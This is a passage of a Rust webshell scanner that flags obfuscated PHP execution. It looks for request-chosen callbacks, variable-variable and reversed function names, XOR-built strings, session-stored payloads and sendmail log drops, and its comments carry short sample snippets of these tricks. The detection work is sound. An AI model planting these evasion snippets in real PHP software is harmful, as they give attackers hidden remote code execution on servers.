//! The ways PHP lets a shell run code without writing `eval($_POST…)`: a callback chosen by the
//! request or named `'assert'`, the `/e` modifier, functions called through variable variables,
//! names written backwards or in rot13, and strings built by bitwise operations on literals.

use crate::Hit;
use crate::flows::is_ident;
use crate::heuristics::{DANGEROUS_NAMES, PHP_EXEC, PHP_INPUT, find, find_all, hit};
use firewarden_model::Severity;

/// Functions that call a function they are given, and which argument it is.
#[derive(Clone, Copy)]
enum Callback {
    First,
    Second,
    Last,
}

impl Callback {
    /// The argument of a call that is its callback.
    fn pick<'a>(self, args: &[&'a str]) -> Option<&'a str> {
        match self {
            Callback::First => args.first(),
            Callback::Second => args.get(1),
            Callback::Last => args.last(),
        }
        .copied()
    }
}

const CALLBACKS: &[(&str, Callback)] = &[
    ("call_user_func", Callback::First),
    ("call_user_func_array", Callback::First),
    ("forward_static_call", Callback::First),
    ("forward_static_call_array", Callback::First),
    ("array_map", Callback::First),
    ("register_shutdown_function", Callback::First),
    ("register_tick_function", Callback::First),
    ("set_error_handler", Callback::First),
    ("set_exception_handler", Callback::First),
    ("spl_autoload_register", Callback::First),
    ("ob_start", Callback::First),
    ("header_register_callback", Callback::First),
    ("array_filter", Callback::Second),
    ("array_walk", Callback::Second),
    ("array_walk_recursive", Callback::Second),
    ("array_reduce", Callback::Second),
    ("preg_replace_callback", Callback::Second),
    ("iterator_apply", Callback::Second),
    ("usort", Callback::Last),
    ("uasort", Callback::Last),
    ("uksort", Callback::Last),
    ("array_udiff", Callback::Last),
    ("array_udiff_assoc", Callback::Last),
    ("array_udiff_uassoc", Callback::Last),
    ("array_uintersect", Callback::Last),
    ("array_uintersect_assoc", Callback::Last),
    ("array_uintersect_uassoc", Callback::Last),
    ("array_diff_ukey", Callback::Last),
    ("array_diff_uassoc", Callback::Last),
    ("array_intersect_ukey", Callback::Last),
    ("array_intersect_uassoc", Callback::Last),
    ("reflectionfunction", Callback::First),
    // `new ReflectionMethod($class, $method)`: the class named first.
    ("reflectionmethod", Callback::First),
    // SQLite3::createFunction / PDO::sqliteCreateFunction: SQL then calls it.
    ("createfunction", Callback::Second),
    ("sqlitecreatefunction", Callback::Second),
];

/// Calls that hand back (a piece of) what they are given: request input through them is still
/// request input as it came.
const KEEPING_CALLS: &[&str] = &[
    "substr(",
    "trim(",
    "strtolower(",
    "strtoupper(",
    "stripslashes(",
    "strval(",
    "json_decode(",
];

const DECODE_CALLS: &[&str] = &[
    "base64_decode(",
    "str_rot13(",
    "strrev(",
    "gzinflate(",
    "gzuncompress(",
    "hex2bin(",
    "urldecode(",
    "rawurldecode(",
];

/// Whether `name` (a quoted callback's text, lowercase) is one of the string functions or
/// decoders whose result still holds what they were given: `array_map('trim', $parts)`.
pub(crate) fn keeps_text(name: &str) -> bool {
    DECODE_CALLS
        .iter()
        .chain(KEEPING_CALLS)
        .any(|c| c.strip_suffix('(') == Some(name))
        || matches!(name, "rtrim" | "ltrim" | "urldecode" | "rawurldecode")
}

/// `v` without the string functions and decoders wrapped around it (`substr(`, `trim(`,
/// `base64_decode(`…, any number of them): what they return is still what `v` held.
pub(crate) fn unwrapped(v: &str) -> &str {
    let mut v = crate::heuristics::bare_php_value(v);
    while let Some(inner) = DECODE_CALLS
        .iter()
        .chain(KEEPING_CALLS)
        .find_map(|d| v.strip_prefix(d))
    {
        v = crate::heuristics::bare_php_value(inner);
    }
    v
}

/// Whether `name` is a function that runs PHP code or commands when called by name: the
/// heuristics' execution sinks, less `eval`, a language construct no callback can be.
fn runs_code(name: &str) -> bool {
    name != "eval" && PHP_EXEC.iter().any(|e| e.strip_suffix('(') == Some(name))
}

/// The characters of PHP code `s` outside its quoted strings, with where each is: the quotes
/// and what they hold are skipped (a backslash escapes the next character inside them). What
/// the bracket and operator scanners read.
pub(crate) fn unquoted(s: &str) -> impl Iterator<Item = (usize, char)> + '_ {
    let (mut quote, mut escaped) = (None, false);
    s.char_indices().filter(move |&(_, c)| {
        if let Some(q) = quote {
            if escaped {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == q {
                quote = None;
            }
            return false;
        }
        if matches!(c, '\'' | '"') {
            quote = Some(c);
            return false;
        }
        true
    })
}

/// The arguments of the call whose `(` is at the start of `s`, split at top-level commas;
/// `None` when the call does not close within the text.
pub(crate) fn arguments(s: &str) -> Option<Vec<&str>> {
    let mut depth = 0usize;
    let mut start = 1;
    let mut args = Vec::new();
    for (i, c) in unquoted(s) {
        match c {
            '(' | '[' => depth += 1,
            ')' | ']' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    args.push(s[start..i].trim());
                    return Some(args);
                }
            }
            ',' if depth == 1 => {
                args.push(s[start..i].trim());
                start = i + 1;
            }
            _ => {}
        }
        if i > 4096 {
            return None;
        }
    }
    None
}

/// Calls of `name` in `s` as a function (not part of a longer name), spaces allowed before
/// the `(`: the offset of the name and the text from the `(` on.
fn calls<'a>(s: &'a str, name: &'a str) -> impl Iterator<Item = (usize, &'a str)> + 'a {
    memchr::memmem::find_iter(s.as_bytes(), name.as_bytes()).filter_map(move |p| {
        if s[..p].ends_with(is_ident) {
            return None;
        }
        let rest = &s[p + name.len()..];
        let open = rest.trim_start();
        open.starts_with('(').then_some((p, open))
    })
}

/// The first call in statement `s` of a function that calls back a function it is handed
/// (`array_map(`, `preg_replace_callback(`, …): its offset and its arguments.
pub(crate) fn callback_call(s: &str) -> Option<(usize, Vec<&str>)> {
    CALLBACKS.iter().find_map(|(name, _)| {
        calls(s, name)
            .next()
            .and_then(|(p, open)| Some((p, arguments(open)?)))
    })
}

/// The text of a string literal (`'assert'`, `"assert"`), or of a bare word PHP reads as one.
fn literal(arg: &str) -> Option<&str> {
    let arg = arg.trim_start_matches('@');
    for q in ['\'', '"'] {
        // `'a' . 'b'` opens and closes with a quote too, but is two literals.
        if let Some(inner) = arg.strip_prefix(q).and_then(|a| a.strip_suffix(q)) {
            return (!inner.contains(q)).then_some(inner);
        }
    }
    (!arg.is_empty() && arg.chars().all(is_ident) && !arg.starts_with(|c: char| c.is_ascii_digit()))
        .then_some(arg)
}

/// Whether statement `s` uses one of the `tainted` variables (`$v`) or properties (`->v`)
/// as a whole name: one pass over the statement's names, not one search per name.
fn carries(s: &str, tainted: &[&str]) -> bool {
    let b = s.as_bytes();
    memchr::memchr2_iter(b'$', b'>', b).any(|p| {
        let start = match b[p] {
            b'$' => p,
            _ if p > 0 && b[p - 1] == b'-' => p - 1,
            _ => return false,
        };
        let rest = &s[p + 1..];
        let len = rest.find(|c: char| !is_ident(c)).unwrap_or(rest.len());
        len > 0 && tainted.contains(&&s[start..p + 1 + len])
    })
}

/// `$v` in `arg` as the whole variable (`$v`, `$v[…]`), not `$va`.
pub(crate) fn uses(arg: &str, var: &str) -> bool {
    arg.match_indices(var)
        .any(|(p, _)| !arg[p + var.len()..].starts_with(is_ident))
}

/// The spans of `t`'s comments outside strings, in order, the first `limit` of them:
/// `/* … */` (to the end of the text when unclosed), `// …` and `# …` to the line's end;
/// not a `#[…]` attribute.
pub(crate) fn comment_spans(t: &str, limit: usize) -> Vec<(usize, usize)> {
    let b = t.as_bytes();
    let mut spans = Vec::new();
    if memchr::memchr2(b'/', b'#', b).is_none() {
        return spans;
    }
    let mut i = 0;
    while i < b.len() && spans.len() < limit {
        match b[i] {
            q @ (b'\'' | b'"') => {
                i += 1;
                while i < b.len() && b[i] != q {
                    i += if b[i] == b'\\' { 2 } else { 1 };
                }
                i += 1;
            }
            c @ (b'/' | b'#') => {
                let next = b.get(i + 1).copied();
                let end = if c == b'/' && next == Some(b'*') {
                    memchr::memmem::find(&b[i + 2..], b"*/").map_or(b.len(), |e| i + 2 + e + 2)
                } else if (c == b'/' && next == Some(b'/')) || (c == b'#' && next != Some(b'[')) {
                    memchr::memchr(b'\n', &b[i..]).map_or(b.len(), |e| i + e)
                } else {
                    i += 1;
                    continue;
                };
                spans.push((i, end));
                i = end;
            }
            _ => i += 1,
        }
    }
    spans
}

/// `t` without its comments (outside strings): shells put them between the pieces
/// of a call (`@$_/*-*/($/*-*/{"_P"./*-*/"OST"})`) to break it up for readers and scanners.
/// With it, where each cut was: (offset in the new text, bytes removed up to there), so
/// offsets found in the new text can be given back in the file's own.
fn without_block_comments(t: &str) -> (std::borrow::Cow<'_, str>, Vec<(usize, usize)>) {
    // Every comment: the text is read without any of them.
    let spans = comment_spans(t, usize::MAX);
    if spans.is_empty() {
        return (t.into(), Vec::new());
    }
    let mut out = String::with_capacity(t.len());
    let mut cuts = Vec::with_capacity(spans.len());
    let (mut removed, mut copied) = (0, 0);
    for (start, end) in spans {
        out.push_str(&t[copied..start]);
        removed += end - start;
        cuts.push((out.len(), removed));
        copied = end;
    }
    out.push_str(&t[copied.min(t.len())..]);
    (out.into(), cuts)
}

/// An offset in the text without comments, as an offset in the file.
fn original_offset(cuts: &[(usize, usize)], at: usize) -> usize {
    let n = cuts.partition_point(|&(pos, _)| pos <= at);
    at + n.checked_sub(1).map_or(0, |k| cuts[k].1)
}

/// The request inputs, `extract(`, `preg_replace`, `preg_filter`, the callback names and
/// `mb_ereg`, in that order: what [`scan_code`] looks for in a file and in each statement.
fn words() -> &'static crate::presence::Presence {
    static SEARCH: std::sync::OnceLock<crate::presence::Presence> = std::sync::OnceLock::new();
    SEARCH.get_or_init(|| {
        crate::presence::Presence::new(
            PHP_INPUT
                .iter()
                .copied()
                .chain(["extract(", "preg_replace", "preg_filter"])
                .chain(CALLBACKS.iter().map(|(n, _)| *n))
                .chain(["mb_ereg"])
                .collect(),
        )
    })
}

/// Where the callback names start in [`words`]' list.
const CALLBACK_WORDS: usize = PHP_INPUT.len() + 3;
/// Where `mb_ereg` is in [`words`]' list.
const MB_EREG_WORD: usize = CALLBACK_WORDS + CALLBACKS.len();

/// The PHP checks of this module; `t` is the lowercased script.
pub(crate) fn scan(t: &str, hits: &mut Vec<Hit>) {
    let (code, cuts) = without_block_comments(t);
    let before = hits.len();
    scan_code(code.as_ref(), hits);
    for h in &mut hits[before..] {
        h.offset = h.offset.map(|o| original_offset(&cuts, o));
    }
}

fn scan_code(t: &str, hits: &mut Vec<Hit>) {
    // What the file holds at all, found in one pass: most statements of most files then need
    // no search of their own.
    let reads_input = PHP_INPUT
        .iter()
        .chain(&["extract("])
        .any(|i| find(t, i).is_some());
    // What each statement holds, read in one pass as the walk goes.
    let mut marks = words().marks(t);
    // A Windows shell object (`new COM("WScript.Shell")`): its `exec`/`run` runs commands.
    let com_shell = find(t, "new com").is_some()
        && ["wscript.shell", "shell.application"]
            .iter()
            .any(|n| find(t, n).is_some());
    // `extract($_REQUEST)`: every variable after it may come from the request.
    let extracted = extracts_request(t);
    let data_urls = find(t, "data:").is_some();
    // Variables set to the name of a function that runs code: `$cb = 'system';`.
    let mut named: Vec<(&str, &str)> = Vec::new();
    let mut tainted: Vec<&str> = Vec::new();
    // Variables that hold request input as it came (or decoded), not something looked up
    // with it: `$f = $_GET['f']`, not `$f = $callbacks[$_GET['id']]`.
    let mut direct: Vec<&str> = Vec::new();
    // Variables computed by XOR of strings: `$f = pack('H*', '13…') ^ $k;`.
    let mut xored: Vec<&str> = Vec::new();
    let mut at = 0;
    let mut found: Vec<&str> = hits.iter().map(|h| h.check).collect();
    // Which callback-taking functions the file calls at all.
    let mut callbacks_seen = [false; CALLBACKS.len()];
    for s in t.split_inclusive([';', '\n', '{', '}']) {
        let here = at;
        at += s.len();
        let held = marks.within(here, at);
        let input = held.any(0..PHP_INPUT.len());
        let carried = !tainted.is_empty() && carries(s, &tainted);
        // `$x = …input…;`: `$x` carries the input from here on.
        if (input || carried)
            && let Some(eq) = s.find('=')
            && !s[eq + 1..].starts_with(['=', '>'])
            && !s[..eq].ends_with(['!', '<', '>', '='])
        {
            let lhs = s[..eq].trim_end();
            // `$this->x = $_GET['nb'];`: the property carries it (`$a = $class->x;`).
            let property = lhs
                .rfind("->")
                .map(|a| &lhs[a..])
                .filter(|p| p.len() > 2 && p[2..].chars().all(is_ident));
            if let Some(p) = property
                && tainted.len() < 64
                && !tainted.contains(&p)
            {
                tainted.push(p);
            } else if lhs.trim_start().starts_with("$_session[") {
                // `$_SESSION['p'] = $_POST['s']`: the session hands the input back on this
                // and every later request.
                if !tainted.contains(&"$_session") && tainted.len() < 64 {
                    tainted.push("$_session");
                }
            } else if let Some(d) = lhs.rfind('$') {
                let var = &lhs[d..];
                if var.len() > 1
                    && var[1..].chars().all(is_ident)
                    && tainted.len() < 64
                    && !tainted.contains(&var)
                {
                    tainted.push(var);
                    // One element of it, or of its pieces: `array_shift($d)` after
                    // `$d = explode(',', $_GET['q'])`.
                    let mut rhs = crate::heuristics::without_calls(
                        unwrapped(&s[eq + 1..]),
                        crate::heuristics::ELEMENT_CALLS,
                    );
                    if let Some(args) = rhs
                        .strip_prefix("explode")
                        .and_then(|r| arguments(crate::heuristics::near(r.trim_start(), 4096)))
                        && let Some(pieces) = args.get(1)
                    {
                        rhs = unwrapped(pieces);
                    }
                    let rhs = rhs.trim_start();
                    let name_len = rhs
                        .char_indices()
                        .skip(1)
                        .find(|&(_, c)| !is_ident(c))
                        .map_or(rhs.len(), |(i, _)| i);
                    if PHP_INPUT.iter().any(|i| rhs.starts_with(i))
                        || direct.contains(&rhs.get(..name_len).unwrap_or(""))
                    {
                        direct.push(var);
                    }
                }
            }
        }
        // `$cb = 'system';` names a sink; `$f = pack(…) ^ $k;` hides a name.
        if let Some((lhs, rhs)) = crate::heuristics::assigned_variable(s) {
            if let Some(lit) = literal(rhs.trim().trim_end_matches([';', '\n']).trim())
                && runs_code(lit)
                && named.len() < 64
            {
                named.push((lhs, lit));
            }
            if rhs.contains('^') && xor_of_strings(rhs) && xored.len() < 64 {
                xored.push(lhs);
            }
        }
        if held.any(CALLBACK_WORDS..MB_EREG_WORD) {
            for (n, seen) in callbacks_seen.iter_mut().enumerate() {
                *seen |= held.has(CALLBACK_WORDS + n);
            }
        }
        if reads_input
            && held.any(CALLBACK_WORDS..MB_EREG_WORD)
            && !found.contains(&"scan.heuristic.php_callback")
        {
            let names: Vec<(&str, Callback)> = CALLBACKS
                .iter()
                .enumerate()
                .filter(|(n, _)| held.has(CALLBACK_WORDS + n))
                .map(|(_, c)| *c)
                .collect();
            callbacks(
                s,
                here,
                &names,
                Held {
                    direct: &direct,
                    named: &named,
                    xored: &xored,
                },
                hits,
                &mut found,
            );
        }
        if (input || carried)
            && (held.any(PHP_INPUT.len() + 1..CALLBACK_WORDS) || held.has(MB_EREG_WORD))
            && !found.contains(&"scan.heuristic.preg_e")
        {
            preg_e(s, here, hits, &mut found);
        }
        if !found.contains(&"scan.heuristic.request_function") {
            variable_call_of_input(s, here, extracted, hits, &mut found);
        }
        if com_shell
            && (input || carried)
            && !found.contains(&"scan.heuristic.input_to_exec")
            && let Some(m) = ["->exec(", "->run(", "->shellexecute("]
                .iter()
                .find(|m| s.contains(**m))
        {
            hits.push(hit(
                "scan.heuristic.input_to_exec",
                Severity::Critical,
                "Request input passed to code or command execution",
                format!("the statement hands request input to `{m}…)` of a Windows shell object (`new COM(\"WScript.Shell\")`): whoever sends the request chooses the command"),
                here,
            ));
            found.push("scan.heuristic.input_to_exec");
        }
        // A `data:` URL's media type ends the statement early (`include "data:text/plain;…`):
        // such a statement is looked at whatever it holds.
        if (input || carried || data_urls && s.contains("data:"))
            && !found.contains(&"scan.heuristic.request_include")
        {
            request_include(t, s, here, &direct, &tainted, hits, &mut found);
        }
    }
    if !found.contains(&"scan.heuristic.php_callback") && t.contains("ob_start") {
        output_to_sink(t, &named, hits);
    }
    if reads_input
        && !hits
            .iter()
            .any(|h| h.check == "scan.heuristic.php_callback")
    {
        let names = CALLBACKS
            .iter()
            .zip(callbacks_seen)
            .filter_map(|(c, seen)| seen.then_some(*c));
        closure_callbacks(t, names, &tainted, hits);
    }
    variable_variable_call(t, hits);
    made_function_call(t, hits);
    reversed_names(t, hits);
    bitwise_strings(t, hits);
    if t.contains("$__") {
        incremented_names(t, hits);
    }
    if reads_input {
        request_file_write(t, &tainted, hits);
        request_tunnel(t, &tainted, hits);
        request_db_client(t, &direct, hits);
        request_library_load(t, &direct, hits);
        request_symlink(t, &direct, hits);
        if t.contains("error_log") {
            error_log_drop(t, &tainted, hits);
        }
        if !found.contains(&"scan.heuristic.php_callback") && t.contains("unserialize") {
            deserialized_sink(t, &direct, hits);
        }
        if !found.contains(&"scan.heuristic.php_callback") && t.contains("yaml_parse") {
            yaml_callbacks(t, hits);
        }
    }
    if !hits
        .iter()
        .any(|h| h.check == "scan.heuristic.php_file_drop")
    {
        upload_drop(t, hits);
    }
    if !hits
        .iter()
        .any(|h| h.check == "scan.heuristic.php_file_drop")
        && find(t, "://").is_some()
    {
        downloaded_page(t, hits);
    }
    if t.contains("ld_preload") {
        preload_hijack(t, hits);
    }
    if let Some(at) = find(t, "ffi::cdef") {
        ffi_command(t, at, hits);
    }
    if let Some(at) = find(t, "-oproxycommand") {
        imap_proxy_command(t, at, hits);
    }
    if reads_input && t.contains("filter_callback") {
        filter_callback(t, hits);
    }
    if t.contains("mail") {
        mail_log_drop(t, hits);
    }
    if find(t, "$_session[").is_some() {
        session_code(t, hits);
    }
    picture_include(t, hits);
    if hits.is_empty() {
        unset_variable_sink(t, extracted, &named, hits);
    }
    if hits.is_empty() && reads_input {
        unset_callback(t, hits);
    }
}

/// `eval($_SESSION['p'])`, or of a variable computed from a session value: code kept in the
/// session by an earlier request (Godzilla stores its payload there) and run on every later
/// one. Benign code keeps data in the session, never code it runs.
fn session_code(t: &str, hits: &mut Vec<Hit>) {
    // Variables computed from session values, anywhere in the file: the payload is stored on
    // one request and run on the next, so the text's order says nothing.
    let held: Vec<&str> = t
        .split_inclusive([';', '\n', '{', '}'])
        .take(200_000)
        .filter_map(crate::heuristics::assigned_variable)
        .filter(|(_, rhs)| near_session(rhs))
        .map(|(var, _)| var)
        .take(64)
        .collect();
    for name in ["eval", "assert"] {
        for (at, open) in calls(t, name).take(200) {
            if t[..at].trim_end().ends_with(['>', ':', '$']) {
                continue;
            }
            let Some(first) = arguments(open).and_then(|a| a.first().copied()) else {
                continue;
            };
            let arg = unwrapped(crate::heuristics::bare_php_value(first));
            let kept = arg.starts_with("$_session[")
                || held
                    .iter()
                    .any(|v| crate::heuristics::starts_with_name(arg, v));
            if kept {
                hits.push(hit(
                    "scan.heuristic.input_to_exec",
                    Severity::Critical,
                    "Script runs code kept in the session",
                    format!("`{name}(…)` runs code taken from `$_SESSION`: a payload stored there by an earlier request and run on every later one (Godzilla's way)"),
                    at,
                ));
                return;
            }
        }
    }
}

/// Whether assigned value `rhs` reads the session, within its first 1 KiB.
fn near_session(rhs: &str) -> bool {
    find(crate::heuristics::near(rhs, 1024), "$_session[").is_some()
}

/// `filter_var($_GET['x'], FILTER_CALLBACK, ['options' => 'system'])`: the filter hands the
/// request to a function that runs it.
fn filter_callback(t: &str, hits: &mut Vec<Hit>) {
    for name in ["filter_var", "filter_input"] {
        for (p, call) in calls(t, name).take(100) {
            let Some(args) = arguments(call) else {
                continue;
            };
            if args.len() < 3 || !args[1].contains("filter_callback") {
                continue;
            }
            let from_request = name == "filter_input"
                || PHP_INPUT
                    .iter()
                    .any(|i| crate::heuristics::bare_php_value(args[0]).starts_with(i));
            let options = args[2];
            let callback = options
                .find("=>")
                .map(|a| options[a + 2..].trim_start())
                .and_then(|o| literal(o.trim_end().trim_end_matches([')', ']']).trim_end()));
            if let Some(callback) = callback.filter(|c| from_request && runs_code(c)) {
                hits.push(hit(
                    "scan.heuristic.php_callback",
                    Severity::Critical,
                    "Request input handed to a callback that runs code",
                    format!(
                        "`{name}(…, FILTER_CALLBACK, …'{callback}')` passes request input through `{callback}`, which runs it"
                    ),
                    p,
                ));
                return;
            }
        }
    }
}

/// `mail($to, $s, $body, '', '-X/var/www/x.php')`: sendmail's `-X` logs the whole message,
/// body included, to a file; named as a script under the web root it is a webshell written by
/// the mailer.
fn mail_log_drop(t: &str, hits: &mut Vec<Hit>) {
    for (p, call) in calls(t, "mail").take(100) {
        let Some(args) = arguments(call) else {
            continue;
        };
        let Some(flags) = args.get(4).and_then(|a| literal(a.trim())) else {
            continue;
        };
        let Some(x) = flags.find("-x") else {
            continue;
        };
        let log = flags[x + 2..].split_whitespace().next().unwrap_or("");
        if crate::flows::names_page(log) {
            hits.push(hit(
                "scan.heuristic.php_file_drop",
                Severity::High,
                "Script writes a PHP file through the mailer's log",
                format!(
                    "`mail(…, '{}')`: sendmail's -X option logs the message, body included, to `{log}`, a script the web server runs",
                    flags.chars().take(80).collect::<String>()
                ),
                p,
            ));
            return;
        }
    }
}

/// Extensions of pictures: files that hold no code unless code was hidden in them. (Not
/// checked in ASP's `<!--#include file="x.gif"-->`: a Chinese CMS keeps code in a `.gif` that
/// way.)
const PICTURE_EXTENSIONS: &[&str] = &[".jpg", ".jpeg", ".gif", ".png", ".bmp", ".ico", ".webp"];

/// `include 'images/banner.jpg'`: PHP runs a picture as code, which it holds only when code
/// was hidden in it.
fn picture_include(t: &str, hits: &mut Vec<Hit>) {
    for (p, word, arg) in included(t).take(200) {
        if let Some(path) = literal(arg)
            && PICTURE_EXTENSIONS
                .iter()
                .any(|e| path.trim_end().ends_with(e))
        {
            hits.push(hit(
                "scan.heuristic.picture_include",
                Severity::High,
                "Script runs a picture as PHP code",
                format!(
                    "`{word} '{}'`: PHP runs the file as code, and a picture holds none unless code was hidden in it (a webshell disguised as an image)",
                    path.chars().take(80).collect::<String>()
                ),
                p,
            ));
            return;
        }
    }
}

/// `array_udiff($a, $b, $e)` where the script never sets `$e`: the function to call is a
/// variable only the request can fill (register_globals, or a parent that never existed), so
/// the request names what runs. Code that takes a callback gets it as a parameter or sets it.
fn unset_callback(t: &str, hits: &mut Vec<Hit>) {
    // Variable variables, `extract()` and `parse_str()` can set any name; an included file
    // can set the callback for a template, so pages that include others are left alone.
    if ["$$", "${", "extract(", "parse_str(", "include", "require"]
        .iter()
        .any(|w| find(t, w).is_some())
    {
        return;
    }
    let mut checked: Vec<&str> = Vec::new();
    for (name, which) in CALLBACKS {
        if find(t, name).is_none() {
            continue;
        }
        for (p, call) in calls(t, name).take(200) {
            // A method of an object (`$q->usort(…)`) takes its own arguments.
            if t[..p].ends_with(['>', ':']) {
                continue;
            }
            let Some(args) = arguments(call) else {
                continue;
            };
            // A lone argument of a `Last` function is its array, not a callback.
            let arg = match which {
                Callback::Last if args.len() < 2 => None,
                _ => which.pick(&args),
            };
            let Some(var) = arg
                .map(|a| a.trim_start_matches('@'))
                .and_then(|a| a.strip_prefix('$'))
                .filter(|v| !v.is_empty() && v.chars().all(is_ident))
            else {
                continue;
            };
            if var.starts_with('_') || var == "this" || checked.contains(&var) {
                continue;
            }
            checked.push(var);
            if checked.len() > 32 {
                return;
            }
            if set_in_script(t, var) {
                continue;
            }
            hits.push(hit(
                "scan.heuristic.php_callback",
                Severity::High,
                "Callback from a variable the script never sets",
                format!(
                    "`{name}(…)` calls the function named by `${var}`, which the script never sets: only the request (register_globals) can fill it, so the request chooses what runs"
                ),
                p,
            ));
            return;
        }
    }
}

/// `extract($_REQUEST)`, `extract($HTTP_POST_VARS)`: every variable after it may come from the
/// request.
fn extracts_request(t: &str) -> bool {
    // `parse_str($_SERVER['QUERY_STRING'])` without a result array sets variables the same way.
    let parsed = t.contains("parse_str")
        && calls(t, "parse_str").take(50).any(|(_, call)| {
            arguments(call).is_some_and(|a| {
                a.len() == 1 && {
                    let v = crate::heuristics::bare_php_value(a[0]);
                    PHP_INPUT.iter().any(|i| v.starts_with(i))
                        || v.starts_with("$_server['query_string']")
                        || v.starts_with("$_server[\"query_string\"]")
                }
            })
        });
    parsed
        || t.contains("extract")
            && calls(t, "extract").take(50).any(|(_, call)| {
                arguments(call)
                    .and_then(|a| a.first().copied())
                    .map(crate::heuristics::bare_php_value)
                    .is_some_and(|a| {
                        a.starts_with("$http_")
                            || PHP_INPUT.iter().any(|i| a.starts_with(i))
                            || lists_input(a)
                            || holds_request_array(t, a)
                    })
            })
}

/// Whether `value` is an array literal with request input as one of its values:
/// `['h' => $_POST['h'] ?? '', 'a' => $_POST['a']]`, `array('c' => $_GET['c'])`.
fn lists_input(value: &str) -> bool {
    let list = value.strip_prefix("array").map_or(value, str::trim_start);
    list.starts_with(['[', '('])
        && arguments(crate::heuristics::near(list, 4096)).is_some_and(|items| {
            items.iter().take(64).any(|item| {
                let v = item.rsplit_once("=>").map_or(*item, |(_, v)| v);
                let v = crate::heuristics::bare_php_value(v);
                PHP_INPUT.iter().any(|i| v.starts_with(i))
            })
        })
}

/// Whether `arg` is a variable the script sets to a whole request array: `$k = $_POST;` …
/// `extract($k)`.
fn holds_request_array(t: &str, arg: &str) -> bool {
    let var = arg.trim_end();
    if var.len() < 2 || !var.starts_with('$') || !var[1..].chars().all(is_ident) {
        return false;
    }
    find_all(t, var).take(100).any(|p| {
        // Within 256 bytes: a run of spaces after the name is not read to its end each time.
        let after = crate::heuristics::near(&t[p + var.len()..], 256);
        let Some(value) = after.trim_start().strip_prefix('=') else {
            return false;
        };
        let value = crate::heuristics::bare_php_value(value);
        !after.starts_with(is_ident)
            && !value.starts_with(['=', '>'])
            && (["$_get", "$_post", "$_request", "$_cookie"]
                .iter()
                .any(|i| {
                    value.strip_prefix(i).is_some_and(|rest| {
                        !rest.starts_with(is_ident) && rest.trim_start().starts_with([';', ')'])
                    })
                })
                || lists_input(value))
    })
}

/// `system($command)` where the script never sets `$command` but its form has a field
/// `name="command"` (or it calls `extract()` on the request): under `register_globals`, which
/// old shells were written for, PHP itself fills the variable from the request.
fn unset_variable_sink(t: &str, extracted: bool, named: &[(&str, &str)], hits: &mut Vec<Hit>) {
    // Variable variables can set any name: nothing can be said to be unset.
    if t.contains("$$") || t.contains("${") {
        return;
    }
    // A page that reads the server's variables as plain globals (`$PHP_SELF`, `$QUERY_STRING`,
    // never set by it) was written for register_globals, which fills request fields the same way.
    let old_globals = || {
        ["php_self", "query_string", "script_name", "remote_addr"]
            .iter()
            .any(|v| {
                find_all(t, &format!("${v}"))
                    .take(100)
                    .any(|p| !t[p + 1 + v.len()..].starts_with(is_ident))
                    && !set_in_script(t, v)
            })
    };
    let declared =
        extracted || t.contains("register_globals") || t.contains("import_request_variables");
    let globals = declared || old_globals();
    if !globals && !t.contains("name=") {
        return;
    }
    let mut checked: Vec<&str> = Vec::new();
    // Calls of the sinks, and of variables the script set to a sink's name (`$fe = "exec";
    // … $fe("$cmd 2>&1")`).
    let through_names = named.iter().flat_map(|&(var, sink)| {
        find_all(t, var).take(100).filter_map(move |at| {
            let open = t[at + var.len()..].trim_start();
            (!t[at + var.len()..].starts_with(is_ident) && !t[..at].ends_with(['>', ':', '$']))
                .then_some((at, sink, open))
        })
    });
    for (at, name, open) in sink_calls(t).chain(through_names) {
        if !open.starts_with('(') {
            continue;
        }
        let Some(arg) = arguments(open).and_then(|a| a.first().copied()) else {
            continue;
        };
        let arg = crate::heuristics::bare_php_value(arg);
        // `"$cmd 2>&1"`: a string that starts with the variable runs it as the command.
        let arg = arg
            .strip_prefix('"')
            .filter(|a| a.starts_with('$'))
            .unwrap_or(arg);
        let Some(var) = arg.strip_prefix('$') else {
            continue;
        };
        let len = var.find(|c: char| !is_ident(c)).unwrap_or(var.len());
        let var = &var[..len];
        if var.is_empty()
            || var.starts_with('_')
            || var == "this"
            || var == "globals"
            || checked.contains(&var)
        {
            continue;
        }
        checked.push(var);
        let field = form_field(t, var);
        if !(field || globals) || set_in_script(t, var) {
            continue;
        }
        let source = if field {
            format!("the page's form has a field named `{var}`")
        } else if declared {
            "the script extracts the request into variables".to_string()
        } else {
            "the page reads the server's variables as plain globals (`$PHP_SELF`, `$QUERY_STRING`)"
                .to_string()
        };
        let why = format!(
            "`{name}(${var}…)`: the script never sets `${var}`, and {source}: with register_globals or extract(), the request fills it and {name} runs it"
        );
        hits.push(hit(
            "scan.heuristic.request_function",
            Severity::High,
            "Code or command from a variable only the request sets",
            why,
            at,
        ));
        return;
    }
}

/// `name="cmd"`, `name='cmd'`, `name=cmd`: an HTML form field of that name.
fn form_field(t: &str, var: &str) -> bool {
    find_all(t, "name=").take(2000).any(|p| {
        let rest = t[p + 5..].trim_start_matches(['"', '\'', '\\']);
        rest.strip_prefix(var).is_some_and(|after| {
            after.starts_with(['"', '\'', ' ', '>', '/', '\\']) || after.is_empty()
        })
    })
}

/// Whether the script gives `$var` a value itself: assigns it, takes it as a parameter, a
/// loop variable, a reference, a global, or a `list()` target.
fn set_in_script(t: &str, var: &str) -> bool {
    let whole = format!("${var}");
    let mut restored = 0;
    for p in find_all(t, &whole).take(1000) {
        let after = &t[p + whole.len()..];
        if after.starts_with(is_ident) {
            continue;
        }
        let next = after.trim_start();
        // `$v = …`, `$v[] = …` (`.=` alone adds to a value set elsewhere). Clearing it
        // (`$v = "";`) or rewriting what it held (`$v = stripslashes($v)`) sets nothing.
        if next.starts_with('[') {
            return true;
        }
        if let Some(rhs) = next.strip_prefix('=')
            && !rhs.starts_with(['=', '>'])
        {
            let rhs = rhs[..rhs.find(';').unwrap_or(rhs.len())].trim();
            let clears = matches!(rhs, "''" | "\"\"" | "null" | "false" | "0");
            // A few restores at most: past that, a hostile page could make each one search.
            if !clears && !uses(rhs, &whole) {
                restored += 1;
                if restored > 16 || !restores(&t[..p], rhs, &whole) {
                    return true;
                }
            }
        }
        let before = t[..p].trim_end();
        if before.ends_with(" as")
            || before.ends_with("=>")
            || before.ends_with('&')
            || before.ends_with("global")
            || before.ends_with("static")
        {
            return true;
        }
        // Within a function's parameters, a closure's `use (…)`, a `global` or `list()`
        // statement: the statement it sits in says which.
        let near = &before[before.ceil_char_boundary(before.len().saturating_sub(2048))..];
